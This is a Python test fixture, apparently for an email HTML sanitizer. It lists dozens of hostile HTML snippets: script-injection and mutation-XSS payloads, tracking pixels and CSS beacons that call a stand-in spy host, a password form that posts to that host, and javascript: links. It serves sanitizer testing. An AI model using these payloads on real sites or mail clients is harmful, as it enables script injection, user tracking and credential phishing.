"""What senders try: to run, to be told that they were read, to be mistaken for the page around them.

RUN is a script that shows in the console that it ran; SPY an address that nobody may be asked for.
"""

RUN = "console.error(/ran/)"

SCRIPTS = {
    "script": "<script>RUN</script>",
    "script from elsewhere": '<script src="SPY"></script>',
    "script in capitals": "<ScRiPt>RUN</sCrIpT>",
    "script module": '<script type="module">RUN</script>',
    "script that is never closed": "<script>RUN",
    "script within a script": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script after a comment that is none": "<!--><script>RUN</script>-->",
    "script in a comment of another kind": "<!--[if mso]><script>RUN</script><![endif]--><![if !x]><script>RUN</script><![endif]>",
    "script in a template": "<template><script>RUN</script></template>",
    "image that fails": "<img src=x onerror=RUN>",
    "image whose attribute is cut by a slash": "<img/src=x/onerror=RUN>",
    "image with a quote that is never closed": '<img src="x` `<script>RUN</script>"` `onerror=RUN>',
    "event in an unknown element": "<x onclick=RUN onpointerenter=RUN tabindex=1 id=x autofocus onfocus=RUN>x",
    "body that loads": "<body onload=RUN onpageshow=RUN>",
    "input with focus": "<input autofocus onfocus=RUN>",
    "details that open": "<details open ontoggle=RUN>x</details>",
    "marquee": "<marquee onstart=RUN>x</marquee>",
    "animation that ends": "<style>@keyframes x{}</style><p style='animation-name:x;animation-duration:1ms' onanimationend=RUN>x",
    "video": '<video onerror=RUN poster="SPY"><source onerror=RUN src="SPY"></video>',
    "svg": "<svg onload=RUN></svg>",
    "svg with a script": "<svg><script>RUN</script></svg>",
    "svg with a script of entities": "<svg><script>&#99;onsole.error(/ran/)</script></svg>",
    "svg that animates": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "svg that uses another": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x\"/></svg>",
    "svg with a foreign object": "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "mutation by style in svg": '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    "mutation by a form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "mutation by a select": "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=RUN>'>",
    "mutation by a textarea": '<textarea><img title="</textarea><img src=x onerror=RUN>">',
    "mutation by a title": '<title><p title="</title><img src=x onerror=RUN>">',
    "iframe of a script": '<iframe src="javascript:parent.RUN"></iframe>',
    "iframe with a document": "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "object": '<object data="data:text/html,<script>RUN</script>"></object>',
    "embed": "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">",
    "meta refresh to a script": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">',
    "nul bytes": "<scr\0ipt>RUN</scr\0ipt><img src=x on\0error=RUN>",
    "nesting": "<div>" * 3_000 + "<script>RUN</script>",
    "nesting in tables": "<table><tr><td>" * 600 + "<script>RUN</script>",
    "unclosed everything": "<a href=\"<b title='<i <script>RUN</script><img src=x onerror=RUN",
    "utf-7": "+ADw-script+AD4-RUN+ADw-/script+AD4-<script>RUN</script>",
    "xml": "<?xml version='1.0'?><?xml-stylesheet href='SPY'?><x xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script></x>",
}

REACHING_OUT = {
    "tracking pixel": '<img src="SPY" width="1" height="1">',
    "tracking pixel over http": '<img src="HTTP_SPY" width="1" height="1">',
    "image of several sizes": '<img srcset="SPY 1x, SPY?2 2x">',
    "image in a picture": '<picture><source srcset="SPY"><img alt="x"></picture>',
    "image input": '<input type="image" src="SPY">',
    "image in an svg": '<svg><image href="SPY" width="9" height="9"/></svg>',
    "image with an address on the same scheme": '<img src="//LOCATION/x">',
    "image in a lazy attribute": '<img lowsrc="SPY" dynsrc="SPY" longdesc="SPY" usemap="SPY">',
    "background attribute": '<table background="SPY"><tr><td background="SPY">x</td></tr></table>',
    "background of the body": '<body background="SPY">',
    "style that imports": '<style>@import "SPY";</style>',
    "style of an element": '<p style="background:url(SPY)">x</p>',
    "style in other letters": "<p style=\"background:u\\72l('SPY')\">x</p>",
    "style with a set of images": '<p style="background-image:image-set(url(SPY) 1x)">x</p>',
    "style of a list": '<ul style="list-style:url(SPY)"><li>x</li></ul>',
    "style of a border": '<p style="border-image:url(SPY) 9;border:1px solid;border-image-source:url(SPY)">x</p>',
    "style with content": "<style>p::before{content:url(SPY)}</style><p>x</p>",
    "style with a cursor": '<p style="cursor:url(SPY),auto">x</p>',
    "style with a font": "<style>@font-face{font-family:x;src:url(SPY)}p{font-family:x}</style><p>x</p>",
    "style that runs": '<p style="width:expression(RUN);behavior:url(SPY);-moz-binding:url(SPY)">x</p>',
    "stylesheet": '<link rel="stylesheet" href="SPY">',
    "preload": '<link rel="preload" as="image" href="SPY"><link rel="prefetch" href="SPY">',
    "preconnect": '<link rel="preconnect" href="SPY"><link rel="dns-prefetch" href="SPY">',
    "icon": '<link rel="icon" href="SPY"><link rel="manifest" href="SPY">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=SPY">',
    "base": '<base href="SPY/"><img src="relative.png"><a href="relative">x</a>',
    "iframe": '<iframe src="SPY"></iframe>',
    "frameset": '<frameset><frame src="SPY"></frameset>',
    "object from elsewhere": '<object data="SPY"><embed src="SPY"></object>',
    "audio": '<audio src="SPY" autoplay></audio><video><track src="SPY" default></video>',
    "speculation rules": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["SPY"]}]}</script>',
    "ping": '<a href="https://example.org/" ping="SPY">x</a>',
    "cid that is an address": '<img src="cid:SPY"><img src="cid:../../../logout/">',
    "picture that is a document": "<img src=\"data:image/svg+xml,<svg xmlns='SVG'><image href='SPY'/></svg>\">",
    "address of ours": '<img src="/logout/"><img src="/api/sync/smart"><link rel="stylesheet" href="/static/mailsync/style.css">',
}

DECEIVING = {
    "form": '<form action="SPY" method="post"><input name="password" type="password"><button>Log in</button></form>',
    "link to a script": '<a href="javascript:RUN">x</a><a href=" java\tscript:RUN">x</a><a href="&#106;avascript:RUN">x</a>',
    "link to a document": '<a href="data:text/html,<script>RUN</script>">x</a><a href="blob:x">x</a><a href="vbscript:RUN">x</a>',
    "link into the page around": '<a href="https://example.org/" target="_top">x</a><a href="SPY" target="_parent">x</a>',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;opacity:0">Session expired</div>',
    "dialog": "<dialog open>Session expired</dialog>",
    "name that shadows": '<img name="body"><form name="cookie"></form><a id="texts"></a>',
}

HOSTILE = {**SCRIPTS, **REACHING_OUT, **DECEIVING}


def piece(name: str, location: str) -> str:
    """The HTML of a piece; `location` is host and port of the spy."""
    path = name.replace(" ", "-")
    html = HOSTILE[name].replace("HTTP_SPY", f"http://{location}/{path}").replace("SPY", f"https://{location}/{path}")
    return html.replace("LOCATION", location).replace("SVG", "http://www.w3.org/2000/svg").replace("RUN", RUN)
